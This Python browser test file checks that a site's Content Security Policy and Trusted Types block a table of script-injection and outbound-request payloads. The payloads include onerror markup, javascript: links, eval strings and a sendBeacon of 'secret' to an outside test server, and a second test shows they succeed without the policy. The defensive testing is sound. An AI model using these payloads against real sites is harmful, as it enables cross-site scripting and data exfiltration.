"""Whatever gets into a page beside us can run nothing and reach nobody."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from bench.server import SiteServer
from browser.reader import PATIENCE, Reader, until

pytestmark = pytest.mark.browser

NOTE = """
globalThis.hits = [];
globalThis.stopped = [];
document.addEventListener("securitypolicyviolation", (event) => stopped.push(event.effectiveDirective));
"""
#: Each is tried in a task of its own: what a debugger evaluates may make code of text, whatever the policy says.
TRY = """(attack) => new Promise((tell) => setTimeout(() => {
  const script = document.createElement("script");
  try { tell(ATTACKS[attack](script) ?? "done") } catch (error) { tell(error.name) }
}))"""
ATTACKS = {
    # attack: (what is done, the rule that stops it)
    "inline script": ("script.text = 'hits.push(1)'; document.body.append(script)", "script-src-elem"),
    "script from elsewhere": ("script.src = ELSEWHERE + '/x.js'; document.body.append(script)", "default policy"),
    "handler by attribute": (
        "document.body.setAttribute('onclick', 'hits.push(2)'); document.body.click()",
        "default policy",
    ),
    "handler in markup": (
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hits.push(3)>')",
        "cleaned",
    ),
    "script in markup": (
        "document.body.insertAdjacentHTML('beforeend', '<b id=kept><script>hits.push(4)<\\/script></b>')",
        "cleaned",
    ),
    "frame in markup": (
        "document.body.insertAdjacentHTML('beforeend', `<iframe srcdoc='<script>parent.hits.push(5)<\\/script>'></iframe>`)",
        "cleaned",
    ),
    "markup in a template": (
        "const box = document.createElement('template'); box.innerHTML = '<p><template><img src=x onerror=hits.push(6)></template></p>'; document.body.append(box.content.querySelector('template')?.content ?? '')",
        "cleaned",
    ),
    "text as code": ("eval('hits.push(7)')", "require-trusted-types-for"),
    "text as a function": ("new Function('hits.push(8)')()", "require-trusted-types-for"),
    "text in a timer": ("setTimeout('hits.push(9)')", "require-trusted-types-for"),
    "address that is code": (
        "const link = document.createElement('a'); link.href = 'javascript:hits.push(10)'; document.body.append(link); link.click()",
        "script-src-elem",
    ),
    "worker from text": ("new Worker(URL.createObjectURL(new Blob(['fetch(1)'])))", "worker-src"),
    "request": ("fetch(ELSEWHERE + '/x').catch(() => 0)", "connect-src"),
    "beacon": ("navigator.sendBeacon(ELSEWHERE + '/x', 'secret')", "connect-src"),
    "picture": ("new Image().src = ELSEWHERE + '/x.png'", "img-src"),
    "style": (
        "const sheet = document.createElement('link'); sheet.rel = 'stylesheet'; sheet.href = ELSEWHERE + '/x.css'; document.head.append(sheet)",
        "style-src-elem",
    ),
    "frame": (
        "const frame = document.createElement('iframe'); frame.src = ELSEWHERE + '/x'; document.body.append(frame)",
        "frame-src",
    ),
    "form": (
        "const form = document.createElement('form'); form.action = ELSEWHERE + '/x'; document.body.append(form); form.submit()",
        "form-action",
    ),
    "base": (
        "const base = document.createElement('base'); base.href = ELSEWHERE; document.head.append(base)",
        "base-uri",
    ),
    "object": (
        "const thing = document.createElement('object'); thing.data = ELSEWHERE + '/x'; document.body.append(thing)",
        "default policy",
    ),
    "font": ("new FontFace('x', `url(${ELSEWHERE}/x.woff2)`).load().catch(() => 0)", "font-src"),
    "style attribute": (
        "document.body.setAttribute('style', 'background: url(' + ELSEWHERE + '/y.png)')",
        "style-src-attr",
    ),
}


@pytest.fixture(scope="module")
def elsewhere(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SiteServer]:
    """A server that must never be asked."""
    with SiteServer(tmp_path_factory.mktemp("elsewhere")) as server:
        yield server


def prepared(elsewhere: SiteServer) -> str:
    """What a page is given before any script of its own: the attacks, and where it all is noted."""
    table = ",".join(f"{name!r}: (script) => {{ {act} }}" for name, (act, _) in ATTACKS.items())
    return f"{NOTE} globalThis.ELSEWHERE = {elsewhere.url!r}; globalThis.ATTACKS = {{{table}}};"


@pytest.fixture
def attacked(readers: Callable[..., Reader], elsewhere: SiteServer) -> Reader:
    reader = readers(before=prepared(elsewhere))
    reader.expects(
        "Content Security Policy", "TrustedScript", "TrustedHTML", "404", f"^foreign request: {elsewhere.url}"
    )
    return reader.open("/en/rituals/")


def test_nothing_runs_nothing_leaves_and_each_is_stopped_by_its_rule(attacked: Reader, elsewhere: SiteServer) -> None:
    missed = []
    for attack, (_, rule) in ATTACKS.items():
        attacked.page.evaluate("stopped.length = 0")
        outcome = attacked.page.evaluate(TRY, attack)
        if rule in {"cleaned", "default policy"}:
            attacked.page.wait_for_timeout(60)  # something else might stop it
        else:
            until(attacked.page, f"stopped.includes({rule!r})")
        stopped = attacked.page.evaluate("stopped")
        if rule == "cleaned":
            by = "cleaned" if not stopped or set(stopped) == {"script-src-attr"} else str(stopped)
        elif rule == "default policy":
            by = "default policy" if outcome == "TypeError" else f"{outcome} {stopped}"
        else:
            by = rule if rule in stopped else f"{outcome} {stopped}"
        missed += [f"{attack}: {rule} expected, was {by}"] if by != rule else []
    assert missed == []
    assert attacked.page.evaluate("hits") == []
    assert elsewhere.log == []
    assert attacked.page.locator("#kept").count() == 1, "what is harmless in the markup stays"
    assert attacked.page.url.endswith("/en/rituals/")


def test_without_the_policy_the_same_attacks_succeed(
    readers: Callable[..., Reader], elsewhere: SiteServer, tmp_path: Path
) -> None:
    """The attacks are real: else the test above would prove nothing."""
    (tmp_path / "bare.html").write_text("<!doctype html><meta charset=utf-8><title>bare</title><body>", "utf-8")
    with SiteServer(tmp_path) as bare:
        reader = readers(before=prepared(elsewhere))
        reader.expects("")
        reader.page.goto(f"{bare.url}/bare.html")
        for attack in ATTACKS.keys() - {"form", "base"}:
            reader.page.evaluate(TRY, attack)
        until(reader.page, "new Set(hits).size >= 9")
        asked = {"/x.js", "/x", "/x.png", "/x.css", "/x.woff2", "/y.png"}
        for _ in range(PATIENCE // 50):
            if {request.path for request in elsewhere.log} >= asked:
                break
            reader.page.wait_for_timeout(50)
        assert {*reader.page.evaluate("hits")} == {1, 2, 3, 5, 6, 7, 8, 9, 10}, "a script in markup never runs"
    assert {request.path for request in elsewhere.log} >= asked
    elsewhere.log.clear()
